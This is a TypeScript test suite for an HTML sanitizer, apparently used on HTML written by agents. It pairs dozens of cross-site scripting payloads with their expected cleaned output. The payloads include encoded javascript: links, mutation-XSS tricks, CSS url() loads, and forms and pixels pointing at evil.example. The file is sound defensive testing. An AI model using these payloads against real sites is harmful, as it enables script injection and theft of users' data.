import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { ELEMENTS, VOID_ELEMENTS } from "./policy.ts";
import { FORM_MARK, sanitize, sanitizeInTurns } from "./sanitize.ts";

const ORIGINS = ["https://mail.example"];
const ASSET = "ast_01jc3v2m9k8q4w6x0y5z7a1b2c";

/** Elements that no safe page has, wherever they would be. */
const HARM =
  /<\s*\/?\s*(?:script|style|iframe|object|embed|svg|math|link|meta|base|input|textarea|select|template|noscript|video|audio)\b/i;

/**
 * Reads what comes out by a grammar so narrow that every parser agrees on it: tags we allow, values in double quotes without
 * quotes or angle brackets in them, texts without angle brackets. Anything else is thrown at the reader.
 */
const read = (html: string): { tag: string; attributes: Record<string, string> }[] => {
  const found: { tag: string; attributes: Record<string, string> }[] = [];
  const open: string[] = [];
  let rest = html;
  while (rest !== "") {
    const text = /^[^<>]+/.exec(rest);
    const tag = /^<([a-z][a-z0-9]*)((?: [a-z-]+="[^"<>`]*")*)>/.exec(rest);
    const close = /^<\/([a-z][a-z0-9]*)>/.exec(rest);
    const taken = text ?? tag ?? close;
    if (!taken) throw new Error(`no such thing may stand here: ${rest.slice(0, 80)}`);
    rest = rest.slice(taken[0].length);
    if (tag?.[1] !== undefined) {
      if (!ELEMENTS.has(tag[1]) && tag[1] !== "form") throw new Error(`<${tag[1]}> is not allowed`);
      found.push({
        tag: tag[1],
        attributes: Object.fromEntries([...(tag[2] ?? "").matchAll(/ ([a-z-]+)="([^"]*)"/g)].map(([, name, value]) => [name, value])),
      });
      if (!VOID_ELEMENTS.has(tag[1])) open.push(tag[1]);
    } else if (close && open.pop() !== close[1]) throw new Error(`</${close[1]}> closes what is not open`);
  }
  if (open.length > 0) throw new Error(`still open: ${open.join(", ")}`);
  return found;
};

const ATTRIBUTES =
  /^(?:title|lang|dir|aria-label|aria-hidden|style|class|id|href|rel|src|alt|loading|width|height|colspan|rowspan|scope|start|reversed|open|datetime)$/;

const expectHarmless = (html: string): void => {
  for (const { tag, attributes } of read(html)) {
    for (const [name, value] of Object.entries(attributes)) {
      expect(name).toMatch(ATTRIBUTES);
      if (name === "href") expect(value).toMatch(/^(?:https?:\/\/|mailto:|tel:|#c-)/i);
      if (name === "src") expect(value).toMatch(/^\/a\/ast_[0-9a-z]{26}$/);
      if (name === "style") expect(value).not.toMatch(/url|expression|import|behavior|@|\\|position|:\/\//i);
    }
    if (tag === "form") expect(attributes).toEqual({});
  }
  expect(html).not.toMatch(HARM);
  expect(html.split(FORM_MARK).length).toBeLessThanOrEqual(2);
};

/** Pairs of input and expected output. */
const TABLE: readonly [name: string, html: string, out: string][] = [
  ["a script", "a<script>alert(1)</script>b", "ab"],
  ["a script in capitals", "a<SCRIPT>alert(1)</ScRiPt >b", "ab"],
  ["a script with a slash in its tag", "a<script/x>alert(1)</script/y>b", "ab"],
  ["a script that does not end", "a<script>alert(1)", "a"],
  ["a script in a script", "a<script><script>x</script>b</script>c", "abc"],
  ["a script put together from two", "<scr<script></script>ipt>alert(1)</script>", "ipt&gt;alert(1)"],
  ["a script from elsewhere", '<script src="https://evil.example/x.js"></script>', ""],
  ["a script with a comment around", "<script><!--<script></script>--></script>x", "--&gt;x"],
  ["a handler", '<p onclick="alert(1)">a</p>', "<p>a</p>"],
  ["a handler without quotes", "<p onmouseover=alert(1)//>a</p>", "<p>a</p>"],
  ["a handler after a slash", "<p/onclick=alert(1)>a</p>", "<p>a</p>"],
  ["a handler behind a strange space", "<p\x0conclick=alert(1)>a</p>", "<p>a</p>"],
  ["a handler whose name begins with =", "<p =onclick=alert(1)>a</p>", "<p>a</p>"],
  ["a handler of an image that fails", '<img src="x" onerror="alert(1)">', ""],
  ["a handler of details", '<details open ontoggle="alert(1)">a</details>', '<details open="">a</details>'],
  ["a link with a script", '<a href="javascript:alert(1)">a</a>', "<a>a</a>"],
  ["the same in capitals", '<a href="JaVaScRiPt:alert(1)">a</a>', "<a>a</a>"],
  ["the same after spaces and controls", '<a href=" \x01javascript:alert(1)">a</a>', "<a>a</a>"],
  ["the same with a tab in it", '<a href="java\tscript:alert(1)">a</a>', "<a>a</a>"],
  ["the same with a line break by number", '<a href="java&#10;script:alert(1)">a</a>', "<a>a</a>"],
  ["the same with a tab by name", '<a href="java&Tab;script:alert(1)">a</a>', "<a>a</a>"],
  ["the same with a colon by name", '<a href="javascript&colon;alert(1)">a</a>', "<a>a</a>"],
  ["the same all by numbers", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>', "<a>a</a>"],
  ["the same by numbers with zeros and without ends", '<a href="&#0000106avascript:alert(1)">a</a>', "<a>a</a>"],
  ["the same by hexadecimal numbers", '<a href="&#x6A;avascript:alert(1)">a</a>', "<a>a</a>"],
  ["vbscript", '<a href="vbscript:msgbox(1)">a</a>', "<a>a</a>"],
  ["a link to data", '<a href="data:text/html,<script>alert(1)</script>">a</a>', "<a>a</a>"],
  ["a link to a blob", '<a href="blob:https://a.example/1">a</a>', "<a>a</a>"],
  ["a link to a file", '<a href="file:///etc/passwd">a</a>', "<a>a</a>"],
  ["a link within this server", '<a href="/__dev/reset">a</a>', "<a>a</a>"],
  ["a link without a scheme", '<a href="//evil.example">a</a>', "<a>a</a>"],
  ["a link with somebody else's host before the @", '<a href="https://bank.example@evil.example">a</a>', "<a>a</a>"],
  [
    "a link that ends its quotes",
    `<a href='https://a.example/"onclick="alert(1)'>a</a>`,
    '<a href="https://a.example/%22onclick=%22alert(1)" rel="noopener noreferrer">a</a>',
  ],
  [
    "a good link",
    '<a href="https://a.example/?a=1&amp;b=2" target="_blank">a</a>',
    '<a href="https://a.example/?a=1&amp;b=2" rel="noopener noreferrer">a</a>',
  ],
  ["a link within the page", '<a href="#top">a</a><h2 id="top">b</h2>', '<a href="#c-top">a</a><h2 id="c-top">b</h2>'],
  [
    "a link with a ping",
    '<a href="https://a.example/" ping="https://evil.example">a</a>',
    '<a href="https://a.example/" rel="noopener noreferrer">a</a>',
  ],
  ["an image from elsewhere", '<img src="https://evil.example/pixel.gif">', ""],
  ["an image of data", '<img src="data:image/svg+xml;base64,AAAA">', ""],
  ["an image out of the way", `<img src="/a/../api/v1/me">`, ""],
  [
    "an image with a set of sources",
    `<img srcset="https://evil.example/x 2x" src="/a/${ASSET}" alt="b">`,
    `<img src="/a/${ASSET}" alt="b" loading="lazy">`,
  ],
  [
    "an image of the library by its whole address",
    `<img src="https://mail.example/a/${ASSET}">`,
    `<img src="/a/${ASSET}" alt="" loading="lazy">`,
  ],
  ["an image of the same path elsewhere", `<img src="https://evil.example/a/${ASSET}">`, ""],
  ["an old image", '<image src="x" onerror="alert(1)">', ""],
  ["an SVG with a script", "a<svg><script>alert(1)</script></svg>b", "ab"],
  ["an SVG with a handler", '<svg onload="alert(1)">', ""],
  ["an SVG with a link", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', ""],
  ["an SVG that uses another", '<svg><use href="data:image/svg+xml,x#y"></use></svg>', ""],
  ["an SVG in an SVG", "<svg><svg></svg><img src=x onerror=alert(1)></svg>b", "b"],
  [
    "math that changes the rules",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "",
  ],
  ["math with a link", '<math href="javascript:alert(1)">CLICK</math>', ""],
  ["a style that is left by its end tag", "<style>a{}</style><img src=x onerror=alert(1)>", ""],
  ["a noscript that hides an end", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '"&gt;'],
  ["a title that hides an end", '<title><p title="</title><img src=x onerror=alert(1)>">', '"&gt;'],
  ["a textarea that hides an end", '<textarea><p title="</textarea><img src=x onerror=alert(1)>">', '"&gt;'],
  ["a template", "<template><img src=x onerror=alert(1)></template>b", "b"],
  ["plaintext", "a<plaintext><script>alert(1)</script>", "a"],
  ["xmp", "a<xmp><p></xmp>b", "ab"],
  ["a frame", '<iframe src="https://evil.example"></iframe>b', "b"],
  ["a frame with its own document", '<iframe srcdoc="<script>alert(1)</script>"></iframe>b', "b"],
  ["frames", '<frameset><frame src="javascript:alert(1)"></frameset>b', "b"],
  ["an object", '<object data="x.swf"><param name="a"></object>b', "b"],
  ["an embed", '<embed src="x.swf">b', "b"],
  ["an applet", "<applet code=x></applet>b", "b"],
  ["a portal", '<portal src="https://evil.example"></portal>b', "b"],
  ["a refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">b', "b"],
  ["a base", '<base href="https://evil.example/">b', "b"],
  ["a link element", '<link rel="stylesheet" href="https://evil.example/x.css">b', "b"],
  [
    "a form to elsewhere",
    '<form action="https://evil.example"><input name="card"><button formaction="https://evil.example">go</button></form>b',
    "<form></form>b",
  ],
  ["two forms", "<form></form><form></form>", "<form></form>"],
  [
    "a form in a link",
    '<a href="https://a.example"><form></form></a>',
    '<a href="https://a.example/" rel="noopener noreferrer"></a><form></form>',
  ],
  ["fields without a form", '<input name="password" type="password"><textarea>x</textarea><select><option>y</select>b', "b"],
  ["a dialog", "<dialog open>x</dialog>b", "b"],
  ["a video", '<video src="x" onerror="alert(1)" poster="y"></video>b', "b"],
  ["a comment", "a<!-- <script>alert(1)</script> -->b", "ab"],
  ["a comment that ends at once", "a<!--><img src=x onerror=alert(1)>-->b", "a--&gt;b"],
  ["a comment that ends with a bang", "a<!-- --!><b>x</b>", "a<b>x</b>"],
  ["a comment that does not end", "a<!-- <b>x</b>", "a"],
  ["conditions of an old browser", "a<!--[if IE]><script>alert(1)</script><![endif]-->b", "ab"],
  ["CDATA", "a<![CDATA[<script>alert(1)</script>]]>b", "aalert(1)]]&gt;b"],
  ["an instruction", "a<?php system('x') ?>b", "ab"],
  ["a tag that does not end", "a<p title='", "a"],
  ["a quote that does not end", 'a<p title="x>b</p>', "a"],
  ["text that looks like tags", "1 < 2 > 0 & <3", "1 &lt; 2 &gt; 0 &amp; &lt;3"],
  ["tags by reference", "&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;script&gt;alert(1)&lt;/script&gt;"],
  [
    "a quote by reference in a value",
    '<p title="&quot;><img src=x onerror=alert(1)>">a</p>',
    '<p title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">a</p>',
  ],
  ["backquotes", "<p title=`a` onclick=alert(1)>b</p>", '<p title="&#96;a&#96;">b</p>'],
  ["a style that loads", '<p style="background:url(https://evil.example/x)">a</p>', "<p>a</p>"],
  ["a style that loads, escaped", '<p style="background:u\\72l(https://evil.example/x)">a</p>', "<p>a</p>"],
  ["a style that loads, with a comment", '<p style="background:ur/**/l(x)">a</p>', "<p>a</p>"],
  ["a style that loads an image set", `<p style="background:image-set('x' 1x)">a</p>`, "<p>a</p>"],
  ["a style with an expression", '<p style="width:expression(alert(1))">a</p>', "<p>a</p>"],
  ["a style with a binding", '<p style="-moz-binding:url(x);behavior:url(y)">a</p>', "<p>a</p>"],
  [
    "a style that covers the page",
    '<div style="position:fixed;top:0;left:0;z-index:9;width:100%">a</div>',
    '<div style="width: 100%">a</div>',
  ],
  ["a style that moves over others", '<div style="margin-top:-300px;color:red">a</div>', '<div style="color: red">a</div>'],
  ["a style that hides", '<div style="display:none;visibility:hidden;opacity:0">a</div>', "<div>a</div>"],
  ["a style that wins over all", '<p style="color:red!important">a</p>', "<p>a</p>"],
  ["a style with a variable", '<p style="--x:url(y);color:var(--x)">a</p>', "<p>a</p>"],
  ["a class of ours", '<div class="card signup rest">a</div>', '<div class="card">a</div>'],
  ["an id of ours", '<div id="signup">a</div>', '<div id="c-signup">a</div>'],
  ["a name that shadows", '<p name="body" id="__proto__">a</p>', "<p>a</p>"],
  ["an element nobody knows", "<x-evil onclick=alert(1)>a</x-evil>", "a"],
  ["an element with a colon", "<a:script xmlns:a='x'>alert(1)</a:script>", "alert(1)"],
  ["a prototype's name", "<constructor>a</constructor><__proto__>b", "a&lt;__proto__&gt;b"],
  ["end tags of nothing", "</p></div></script>a</body></html>b", "ab"],
  ["tags that cross", "<b><i>a</b>b</i>", "<b><i>a</i></b>b"],
  ["a whole document", "<!doctype html><html><head><title>x</title></head><body onload=alert(1)><p>a</body></html>", "<p>a</p>"],
  ["NUL", "<scr\0ipt>alert(1)</scr\0ipt><p ti\0tle=x>a\0b</p>", "alert(1)<p>ab</p>"],
  ["a mark of a form in a value", '<p title="<form></form>">a</p>', '<p title="&lt;form&gt;&lt;/form&gt;">a</p>'],
];

describe("HTML of agents", () => {
  for (const [name, html, out] of TABLE)
    test(name, () => {
      const { html: got } = sanitize(html, ORIGINS);
      expect(got).toBe(out);
      expectHarmless(got);
      expect(sanitize(got, ORIGINS).html).toBe(got);
    });

  test("what was taken out is told, by kind and number", () => {
    const { removed } = sanitize(
      '<p onclick=a onfocus=b>x<script></script><script></script><a href="javascript:x">y</a><i style="top:0">z</i>',
      ORIGINS,
    );
    expect(removed).toEqual([
      { kind: "attribute", name: "onclick", count: 1 },
      { kind: "attribute", name: "onfocus", count: 1 },
      { kind: "element", name: "script", count: 2 },
      { kind: "address", name: "href", count: 1 },
      { kind: "style", name: "top", count: 1 },
    ]);
  });

  test("a good page stays as it is", () => {
    const page =
      '<div class="hero"><h1>Spring</h1><p class="muted">Plant &amp; eat.</p></div><ul><li>One</li><li>Two <strong>bold</strong></li></ul><table><tr><th scope="col">A</th></tr></table><form></form>';
    expect(sanitize(page, ORIGINS)).toEqual({ html: page, removed: [], assets: [] });
  });

  test("images of the library are named", () => {
    expect(sanitize(`<img src="/a/${ASSET}"><img src="/a/${ASSET}">`, ORIGINS).assets).toEqual([ASSET]);
  });

  test("elements nest no deeper than 64, and what is deeper keeps its text", () => {
    const { html, removed } = sanitize(`${"<div>".repeat(100)}x${"</div>".repeat(100)}`, ORIGINS);
    expect(html).toBe(`${"<div>".repeat(64)}x${"</div>".repeat(64)}`);
    expect(removed).toEqual([{ kind: "depth", name: "div", count: 36 }]);
  });
});

const PIECES = [
  "<",
  ">",
  "</",
  "/>",
  "<!--",
  "-->",
  "--!>",
  "<![CDATA[",
  "]]>",
  "<?",
  "'",
  '"',
  "`",
  "=",
  " ",
  "\t",
  "\0",
  "&",
  "&#",
  "&#x6a;",
  "&colon;",
  ";",
  "/",
  "\\",
  "script",
  "style",
  "svg",
  "math",
  "mtext",
  "mglyph",
  "img",
  "a",
  "p",
  "div",
  "table",
  "td",
  "form",
  "noscript",
  "template",
  "textarea",
  "title",
  "xmp",
  "iframe",
  "select",
  "option",
  "foreignObject",
  "annotation-xml",
  "desc",
  "onerror",
  "onload",
  "href",
  "src",
  "style",
  "javascript:alert(1)",
  "data:text/html,",
  "url(",
  "x",
  "1",
];

test("whatever is put together, what comes out is harmless, and stays the same when it goes in again", () => {
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...PIECES), { maxLength: 60 }), (pieces) => {
      const { html } = sanitize(pieces.join(""), ORIGINS);
      expectHarmless(html);
      expect(sanitize(html, ORIGINS).html).toBe(html);
    }),
    { numRuns: 3000, seed: 7 },
  );
});

test("tags with attributes of all kinds, and what comes out is harmless", () => {
  const tag = fc.tuple(
    fc.constantFrom("<", "</"),
    fc.constantFrom(...PIECES.slice(24)),
    fc.array(fc.constantFrom(...PIECES), { maxLength: 8 }),
    fc.constantFrom(">", "/>", " >"),
  );
  fc.assert(
    fc.property(fc.array(tag, { maxLength: 15 }), (tags) => {
      const { html } = sanitize(tags.map(([open, name, rest, close]) => `${open}${name} ${rest.join("")}${close}`).join("x"), ORIGINS);
      expectHarmless(html);
      expect(sanitize(html, ORIGINS).html).toBe(html);
    }),
    { numRuns: 3000, seed: 11 },
  );
});

test("what is taken in turns is what is taken at once, and others have theirs in between", async () => {
  const html = '<p onclick="x">a<b>b</p>'.repeat(20_000);
  let turns = 0;
  let over = false;
  const others = (): void => {
    turns += 1;
    if (!over) setImmediate(others);
  };
  setImmediate(others);
  const taken = await sanitizeInTurns(html, ORIGINS);
  over = true;
  expect(taken).toEqual(sanitize(html, ORIGINS));
  expect(turns).toBeGreaterThan(5);
});

test("half a megabyte of the worst takes well under a second", () => {
  for (const worst of [
    "<a <a ",
    "<div>",
    "<!--",
    "<p>",
    "<li>",
    "<a b='",
    "<style></style>",
    "<svg>",
    "&#",
    "<i style='a:b;'>",
    "</",
    "<![",
    "<a\n",
  ]) {
    const html = worst.repeat(Math.floor((512 * 1024) / worst.length));
    const before = process.cpuUsage().user;
    sanitize(html, ORIGINS);
    expect(process.cpuUsage().user - before, worst).toBeLessThan(1_500_000);
  }
});
